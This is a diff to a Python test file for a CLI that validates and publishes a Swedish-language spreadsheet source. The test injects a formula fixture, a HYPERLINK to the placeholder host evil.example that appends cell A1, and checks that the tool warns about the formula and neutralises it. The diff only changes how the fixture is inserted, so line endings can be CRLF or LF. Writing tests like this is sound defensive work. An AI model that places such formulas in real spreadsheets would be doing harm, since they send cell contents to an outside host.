@@ -12,6 +12,7 @@ import http.server
 import io
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -272,7 +273,7 @@ def test_formulas_are_neutralised_by_default_and_refused_on_request(project: Pat
     source = strategi_source(project)
     text = source.read_bytes()
     formula = b'"=HYPERLINK(""http://evil.example/?""&A1;""Klicka"")"'
-    source.write_bytes(text.replace(b"ej bed\xc3\xb6md,\n", b"ej bed\xc3\xb6md," + formula + b"\n", 1))
+    source.write_bytes(re.sub(rb"ej bed\xc3\xb6md,(?=\r?\n)", b"ej bed\xc3\xb6md," + formula, text, count=1))
     code, out = run(project, "validate", "strategi-uppfoljning", may_write=READS)
     assert code == 0 and "warning" in out and "starts like a spreadsheet formula" in out
     code, out = cli(project, "publish", "strategi-uppfoljning", "--target", "local")
